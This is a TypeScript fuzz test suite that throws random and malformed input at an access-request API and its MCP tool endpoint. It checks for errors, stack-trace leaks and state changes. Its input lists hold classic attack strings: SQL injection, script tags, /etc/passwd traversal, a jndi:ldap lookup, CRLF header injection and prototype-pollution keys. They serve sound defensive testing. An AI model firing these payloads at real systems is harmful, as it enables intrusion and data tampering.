import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { engineFixture, validInput } from "../helpers/engine-fixture";
import { startApiServer } from "../helpers/api-server";

/**
 * Hostile input against the API: random and malformed bodies, wrong content types,
 * duplicate parameters, oversized and Unicode-tricky values. Whatever comes in, the
 * answer is never a 500 or a stack trace, and a refused call changes nothing.
 */

let fx: Awaited<ReturnType<typeof engineFixture>>;
let api: Awaited<ReturnType<typeof startApiServer>>;
let token: string;
let requestId: string;

beforeAll(async () => {
  fx = await engineFixture({ LATCHKEY_RATE_LIMIT_TOKEN: "100000", LATCHKEY_RATE_LIMIT_ADDRESS: "100000" });
  const { createPersonalToken } = await import("@/lib/identity/tokens");
  const engine = await import("@/lib/approvals/engine");
  const bob = await fx.user("bob@example.com", ["engineering-leads"]);
  await fx.user("alice@example.com", ["engineering"]);
  token = (
    await createPersonalToken(bob, { name: "fuzz", scopes: ["requests:read", "requests:write", "credentials:read", "approvals:write"], expiresInDays: 1 })
  ).secret;
  requestId = (await engine.createRequest(bob, "temporary-access", validInput())).id;
  api = await startApiServer();
});
afterAll(async () => {
  await api?.close();
  await fx?.close();
});

async function state() {
  const [requests, approvals, tokens, events] = await Promise.all([
    fx.db.accessRequest.count(),
    fx.db.approval.count(),
    fx.db.apiToken.count(),
    fx.db.auditEvent.count(),
  ]);
  return { requests, approvals, tokens, events };
}

const TRICKY = fc.constantFrom(
  "\u202Egnp.exe",
  "a\u0000b",
  "<script>alert(1)</script>",
  "\uFEFFadmin",
  "Ａｌｉｃｅ",
  "e\u0301",
  "🙂".repeat(50),
  "x".repeat(70_000),
  '\'; DROP TABLE "AccessRequest"; --',
  "{{constructor.constructor('return process')()}}",
  "__proto__",
  "constructor",
  "toString",
  "\ud800 lone surrogate",
);
/** Ids that name members of Object.prototype: a lookup by plain indexing finds the prototype's. */
const PROTOTYPE_NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype"] as const;
const value = fc.oneof(fc.jsonValue(), TRICKY, fc.string(), fc.integer(), fc.double(), fc.constant(null));
const body = fc.oneof(
  fc.record(
    {
      workflowId: fc.oneof(fc.constant("temporary-access"), fc.constantFrom(...PROTOTYPE_NAMES), TRICKY, fc.string()),
      input: fc.dictionary(fc.oneof(fc.constantFrom("targetId", "role", "durationMinutes", "justification", "__proto__", "constructor"), fc.string()), value),
    },
    { requiredKeys: [] },
  ),
  fc.record({
    workflowId: fc.constant("temporary-access"),
    input: fc.record({
      targetId: fc.oneof(fc.constantFrom(...PROTOTYPE_NAMES), TRICKY),
      role: fc.constant("read"),
      durationMinutes: fc.constant(30),
      justification: fc.constant("fuzzing the target lookup"),
    }),
  }),
  fc.record({ comment: value }, { requiredKeys: [] }),
  fc.jsonValue(),
);
const raw = fc.oneof(
  body.map((b) => JSON.stringify(b)),
  fc.string(),
  fc.constantFrom("{", "[", "null", '"x"', '{"workflowId":', "\u0000", '{"input":{"targetId":1e309}}'),
);
const route = fc.constantFrom(
  ["POST", "/api/v1/requests"],
  ["GET", "/api/v1/requests"],
  ["GET", "/api/v1/requests/ID"],
  ["POST", "/api/v1/requests/ID/approve"],
  ["POST", "/api/v1/requests/ID/reject"],
  ["POST", "/api/v1/requests/ID/cancel"],
  ["POST", "/api/v1/requests/ID/credential"],
  ["GET", "/api/v1/workflows"],
  ["GET", "/api/v1/approvals"],
  ["POST", "/api/v1/requests/ID/revoke"],
  ["POST", "/api/mcp"],
  ["POST", "/api/oauth/introspect"],
  ["GET", "/api/forward-auth"],
);
const contentType = fc.constantFrom(
  "application/json",
  "application/json; charset=utf-8",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "",
  "application/json\r\nx-evil: 1",
);
const id = fc.oneof(
  fc.constant("REQ"),
  fc.string({ maxLength: 30 }),
  fc.constantFrom("..%2f..%2fetc%2fpasswd", "%00", "' OR 1=1 --", "9".repeat(400), "\u0000", "a\u0000b", ...PROTOTYPE_NAMES),
);
/** Path segments and query values as raw URL text: NUL, invalid UTF-8 and encoded lone surrogates included. */
const rawText = fc.oneof(
  fc.string({ maxLength: 20 }).map(encodeURIComponent),
  fc.constantFrom("%00", "a%00b", "%ff", "%c0%80", "%ED%A0%80", "%E2%82", "%", "%zz", ...PROTOTYPE_NAMES),
);
const query = fc
  .array(fc.tuple(fc.constantFrom("workflowId", "status", "q", "id", "limit", "cursor", "__proto__", "constructor"), rawText), { maxLength: 3 })
  .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join("&"));

describe("the API under hostile input", () => {
  it("never answers 500 or shows a stack trace, and a refused call changes nothing", async () => {
    await fc.assert(
      fc.asyncProperty(
        route,
        raw,
        contentType,
        fc.oneof(
          id.map((v) => (v === "REQ" ? requestId : encodeURIComponent(v))),
          rawText,
        ),
        query,
        fc.boolean(),
        async ([method, path], payload, type, segment, search, withToken) => {
          const target = path!.replace("ID", segment);
          const before = await state();
          let response: Response;
          try {
            response = await fetch(`${api.url}${target}?workflowId=a&workflowId=b&${search}`, {
              method,
              headers: { ...(withToken ? { authorization: `Bearer ${token}` } : {}), ...(type && !/[\r\n]/.test(type) ? { "content-type": type } : {}) },
              body: method === "POST" ? payload : undefined,
            });
          } catch {
            return; // the client refused to send it (e.g. a header with a newline): nothing reached the server
          }
          const text = await response.text();
          expect(response.status, `${method} ${target}: ${text.slice(0, 200)}`).toBeLessThan(500);
          expect(text).not.toMatch(/\n\s+at |node_modules|PrismaClient|prisma\.|SELECT |INSERT /);
          if (response.status >= 400) expect(await state()).toEqual(before);
        },
      ),
      { numRuns: 250 },
    );
  });

  it("MCP: hostile tool calls never answer 500 or a stack trace, and change nothing but their own audit event", async () => {
    const tool = fc.constantFrom(
      "list_workflows",
      "create_request",
      "get_request",
      "wait_for_decision",
      "reveal_credential",
      "cancel_request",
      "revoke_grant",
      "approve_request",
      "__proto__",
      "constructor",
    );
    const args = fc.oneof(fc.dictionary(fc.constantFrom("id", "workflowId", "input", "timeoutSeconds", "reason", "__proto__"), fc.oneof(value, TRICKY)), value);
    await fc.assert(
      fc.asyncProperty(tool, args, async (name, input) => {
        const before = await state();
        const response = await fetch(`${api.url}/api/mcp`, {
          method: "POST",
          headers: { authorization: `Bearer ${token}`, "content-type": "application/json", accept: "application/json, text/event-stream" },
          body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name, arguments: input } }),
        });
        const text = await response.text();
        expect(response.status, text.slice(0, 200)).toBeLessThan(500);
        expect(text).not.toMatch(/\n\s+at |node_modules|PrismaClient|prisma\.|SELECT |INSERT |Something went wrong/);
        const after = await state();
        expect({ ...after, events: 0 }).toEqual({ ...before, events: 0 });
        expect(after.events - before.events).toBeLessThanOrEqual(1);
      }),
      { numRuns: 120 },
    );
    // Well-formed calls with hostile values reach the tools and are audited there, not only refused by the transport's
    // checks: the random ones above may mostly be refused before (how many is chance), these always get through.
    const reached = await fx.db.auditEvent.count({ where: { action: "mcp.call" } });
    const hostileIds = ["' OR '1'='1", "../../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "x".repeat(64), "１２３", "req\u202eevil"];
    for (const id of hostileIds) {
      const response = await fetch(`${api.url}/api/mcp`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json", accept: "application/json, text/event-stream" },
        body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "get_request", arguments: { id } } }),
      });
      const text = await response.text();
      expect(response.status, text.slice(0, 200)).toBeLessThan(500);
      expect(text).not.toMatch(/\n\s+at |node_modules|PrismaClient|prisma\.|SELECT |INSERT |Something went wrong/);
    }
    expect(await fx.db.auditEvent.count({ where: { action: "mcp.call" } })).toBe(reached + hostileIds.length);
  });

  it("refuses text PostgreSQL cannot store (NUL, unpaired surrogates) with a clear message", async () => {
    const before = await state();
    for (const justification of ["need access now\u0000 for the incident", "need access now \ud800 for the incident"]) {
      const response = await fetch(`${api.url}/api/v1/requests`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        // JSON.stringify writes these as the escapes \u0000 and \ud800: valid JSON, unstorable text.
        body: JSON.stringify({ workflowId: "temporary-access", input: { targetId: "payments-api-staging", role: "read", durationMinutes: 30, justification } }),
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({
        type: "urn:latchkey:problem:invalid_text",
        title: "Text PostgreSQL cannot store",
        status: 400,
        detail: "Text may not contain NUL characters or broken Unicode (unpaired surrogates).",
        code: "invalid_text",
      });
    }
    expect(await state()).toEqual(before);
  });

  it("refuses names of Object.prototype members as target or workflow ids, as unknown ids", async () => {
    const before = await state();
    for (const name of PROTOTYPE_NAMES) {
      const asTarget = await fetch(`${api.url}/api/v1/requests`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify({ workflowId: "temporary-access", input: validInput({ targetId: name }) }),
      });
      expect(asTarget.status, name).toBe(400);
      expect(await asTarget.json()).toMatchObject({ status: 400, code: "invalid", fields: { targetId: `"${name}" is not a target of this workflow.` } });
      const asWorkflow = await fetch(`${api.url}/api/v1/requests`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify({ workflowId: name, input: validInput() }),
      });
      expect(asWorkflow.status, name).toBe(404);
      expect(await asWorkflow.json()).toMatchObject({ status: 404, code: "not_found" });
    }
    expect(await state()).toEqual(before);
  });

  it("refuses NUL and broken Unicode in path and query parameters before they reach a query", async () => {
    const before = await state();
    for (const path of ["/api/v1/requests/%00", "/api/v1/requests/a%00b/approve", "/api/v1/requests?status=%00", `/api/v1/requests/${requestId}?x=a%00b`]) {
      const response = await fetch(`${api.url}${path}`, {
        method: path.endsWith("approve") ? "POST" : "GET",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: path.endsWith("approve") ? "{}" : undefined,
      });
      expect(response.status, path).toBe(400);
      expect(await response.json()).toEqual({
        type: "urn:latchkey:problem:invalid_text",
        title: "Text PostgreSQL cannot store",
        status: 400,
        detail: "Text may not contain NUL characters or broken Unicode (unpaired surrogates).",
        code: "invalid_text",
      });
    }
    expect(await state()).toEqual(before);
  });

  it("records a token's last use from the same hop as the audit trail, not from an address the caller wrote", async () => {
    for (const hops of ["203.0.113.7, 10.0.0.9", "198.51.100.1, 203.0.113.7, 10.0.0.10"]) {
      const response = await fetch(`${api.url}/api/v1/requests`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json", "x-forwarded-for": hops },
        body: JSON.stringify({ workflowId: "temporary-access", input: validInput() }),
      });
      expect(response.status).toBe(201);
      const { id: created } = (await response.json()) as { id: string };
      const event = await fx.db.auditEvent.findFirstOrThrow({ where: { requestId: created, action: "request.created" } });
      const used = await fx.db.apiToken.findFirstOrThrow({ where: { name: "fuzz" } });
      expect(event.ip).toBe(hops.split(", ").at(-1));
      expect(used.lastUsedIp).toBe(event.ip);
    }
  });

  it("refuses bodies over the limit before parsing them", async () => {
    const before = await state();
    const response = await fetch(`${api.url}/api/v1/requests`, {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: JSON.stringify({ workflowId: "temporary-access", input: { justification: "x".repeat(2_000_000) } }),
    });
    expect(response.status).toBe(413);
    expect(await state()).toEqual(before);
  });
});

describe("every workflow's input schema under random input", () => {
  it("validates or refuses with field messages, never throws anything else", async () => {
    const { listWorkflows } = await import("@/lib/workflows/registry");
    for (const workflow of listWorkflows()) {
      fc.assert(
        fc.property(
          fc.dictionary(
            fc.oneof(fc.constantFrom("targetId", "role", "durationMinutes", "justification", "runConf", "dagRunId", "__proto__"), fc.string()),
            value,
          ),
          (input) => {
            const parsed = workflow.inputSchema.safeParse(input);
            if (!parsed.success) for (const issue of parsed.error.issues) expect(typeof issue.message).toBe("string");
            expect(({} as Record<string, unknown>).polluted).toBeUndefined();
          },
        ),
        { numRuns: 300 },
      );
    }
  });
});
